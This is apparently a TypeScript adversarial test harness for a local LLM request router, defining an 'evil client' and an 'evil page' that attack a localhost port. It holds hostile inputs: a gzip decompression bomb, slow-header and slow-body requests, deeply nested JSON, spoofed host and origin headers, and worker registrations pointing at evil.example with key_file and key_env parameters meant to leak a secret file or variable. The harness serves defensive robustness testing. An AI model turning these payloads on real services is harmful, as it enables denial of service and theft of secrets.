/**
 * The evil client, and the evil web page: what a program may send to the port of the router, and what a
 * browser on its machine may send for a page of another site.
 */

import { Buffer } from 'node:buffer'
import { connect } from 'node:net'
import { gzipSync } from 'node:zlib'
import { type Hearsay, mutated, pick, type Stranger } from './stranger.ts'

const RAW_MS_MAX = 3000

interface Target {
  readonly host: string
  readonly port: number
}

/**
 * Writes raw bytes, reads until the answer ends or `RAW_MS_MAX` have passed. `reads` false: reads nothing.
 */
function raw(
  { host, port }: Target,
  bytes: Uint8Array | string,
  hearsay: Hearsay,
  reads = true,
): Promise<string> {
  return new Promise(resolve => {
    const socket = connect(port, host)
    let text = ''
    const end = (): void => {
      clearTimeout(timer)
      socket.destroy()
      resolve(text)
    }
    const timer = setTimeout(end, RAW_MS_MAX)
    socket.on('error', end)
    socket.on('close', end)
    if (reads)
      socket.on('data', part => {
        hearsay.add(part)
        if (text.length < 1_000_000) text += part.toString('latin1')
      })
    socket.write(bytes)
  })
}

function request(
  method: string,
  path: string,
  headers: readonly string[],
  body: Uint8Array | string = '',
): Buffer {
  const bytes = Buffer.from(body)
  const head = [
    `${method} ${path} HTTP/1.1`,
    ...(headers.some(header => /^host:/i.test(header)) ? [] : ['host: 127.0.0.1']),
    `content-length: ${bytes.length}`,
    ...headers,
    'connection: close',
  ]
  return Buffer.concat([Buffer.from(`${head.join('\r\n')}\r\n\r\n`), bytes])
}

const JSON_TYPE = 'content-type: application/json'

export function evilClient(target: Target, hearsay: Hearsay, honest: string, evil: string): Stranger {
  const say = (bytes: Uint8Array | string, reads?: boolean): Promise<void> =>
    raw(target, bytes, hearsay, reads).then(() => {})
  // Made once: the strangers' own work is not what honest clients should wait for.
  const bomb = gzipSync(Buffer.alloc(200_000_000, 0x20), { level: 1 })
  const prompt = (model: string, more: object = {}): string =>
    JSON.stringify({ model, prompt: 'tell me '.repeat(20), max_tokens: 2, ...more })
  return {
    name: 'client',
    stop() {},
    deeds: {
      mutatedBody: random =>
        say(
          request(
            'POST',
            pick(random, [
              '/v1/chat/completions',
              '/v1/completions',
              '/v1/messages',
              '/v1/responses',
              '/route',
            ]),
            [JSON_TYPE],
            mutated(random, Buffer.from(prompt(pick(random, [honest, evil])))),
          ),
        ),
      deepBody: () =>
        say(
          request(
            'POST',
            '/v1/completions',
            [JSON_TYPE],
            `{"model":"${honest}","prompt":${'['.repeat(100_000)}`,
          ),
        ),
      bomb: () => say(request('POST', '/v1/completions', [JSON_TYPE, 'content-encoding: gzip'], bomb)),
      pipelinedDumps: () => say('GET /dump HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n'.repeat(30), false),
      pipelinedViews: random => {
        const path = pick(random, ['/workers', '/metrics', '/decisions', '/actors'])
        return say(`GET ${path} HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n`.repeat(20), false)
      },
      askRoute: async () => {
        await Promise.all(
          Array.from({ length: 10 }, () => say(request('POST', '/route', [JSON_TYPE], prompt(honest)))),
        )
      },
      diagnosis: () => say(request('GET', `/workers/127.0.0.1:1/diagnosis`, [])),
      slowHead: () => say('POST /v1/completions HTTP/1.1\r\nhost: 127.0.0.1\r\nx-', true),
      slowBody: () =>
        say('POST /v1/completions HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-length: 1000\r\n\r\n{', true),
      longNames: random =>
        say(
          request(
            'POST',
            '/v1/completions',
            [JSON_TYPE, `x-homing-tenant: ${'t'.repeat(4000)}`, `x-request-id: ${'r'.repeat(4000)}`],
            prompt('m'.repeat(pick(random, [10, 100_000]))),
          ),
        ),
      strictPriority: async random => {
        const nvext = {
          agent_hints: { strict_priority: 2 ** 31 - 1, priority: 1e9, latency_sensitivity: 1e9 },
        }
        await Promise.all(
          Array.from({ length: 5 }, () =>
            say(
              request(
                'POST',
                '/v1/completions',
                [JSON_TYPE, `x-homing-tenant: made-${random.below(1e9)}`],
                prompt(honest, { nvext }),
              ),
            ),
          ),
        )
      },
      ownModel: async random => {
        await Promise.all(
          Array.from({ length: 5 }, () =>
            say(
              request(
                'POST',
                '/v1/completions',
                [JSON_TYPE],
                prompt(evil, { stream: pick(random, [true, false]) }),
              ),
            ),
          ),
        )
      },
      badHttp: random =>
        say(mutated(random, request('POST', '/v1/completions', [JSON_TYPE], prompt(honest)))),
      tokenData: () =>
        say(request('POST', '/v1/completions', [JSON_TYPE], prompt(honest, { nvext: { token_data: [5] } }))),
    },
  }
}

/** `secretFile` and `secretVariable`: what the machine has that a page must not get at. */
export function evilPage(
  target: Target,
  hearsay: Hearsay,
  evilUrl: string,
  secretFile: string,
  secretVariable: string,
  honestWorker: string,
  onChange: (what: string) => void,
): Stranger {
  const disguises: readonly (readonly string[])[] = [
    [`host: evil.example:${target.port}`, `origin: http://evil.example:${target.port}`],
    [`host: evil.example:${target.port}`],
    [`host: 127.0.0.1:${target.port}`, 'origin: http://evil.example'],
    [`host: 127.0.0.1:${target.port}`, 'sec-fetch-site: cross-site'],
    [`host: 127.0.0.1:${target.port}`, 'origin: null'],
    [`host: 127.0.0.1:${target.port}`, 'via: 1.1 proxy'],
    [`host: 127.0.0.1:${target.port}`, 'x-forwarded-host: evil.example'],
    [`host: 127.0.0.1:${target.port}`, 'cf-connecting-ip: 10.0.0.9'],
  ]
  const change = async (
    random: Parameters<typeof pick>[0],
    method: string,
    path: string,
    body = '',
  ): Promise<void> => {
    const answer = await raw(
      target,
      request(method, path, [JSON_TYPE, ...pick(random, disguises)], body),
      hearsay,
    )
    const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1] ?? 0)
    if (status >= 200 && status < 300) onChange(`${method} ${path}: ${status}`)
  }
  return {
    name: 'page',
    stop() {},
    deeds: {
      addWorker: random =>
        change(
          random,
          'POST',
          '/workers',
          JSON.stringify({ url: `${evilUrl}/p${random.below(1e9)}?events_host=_x` }),
        ),
      stealFile: random =>
        change(
          random,
          'POST',
          '/workers',
          JSON.stringify({ url: `${evilUrl}/f?key_file=${encodeURIComponent(secretFile)}` }),
        ),
      stealVariable: random =>
        change(random, 'POST', '/workers', JSON.stringify({ url: `${evilUrl}/v?key_env=${secretVariable}` })),
      removeWorker: random => change(random, 'DELETE', `/workers/${honestWorker}`),
      drainWorker: random => change(random, 'POST', `/workers/${honestWorker}/drain`),
      thresholds: random =>
        change(
          random,
          'POST',
          '/busy_threshold',
          JSON.stringify({ model: 'homing-sim', active_decode_blocks_threshold: 0 }),
        ),
    },
  }
}
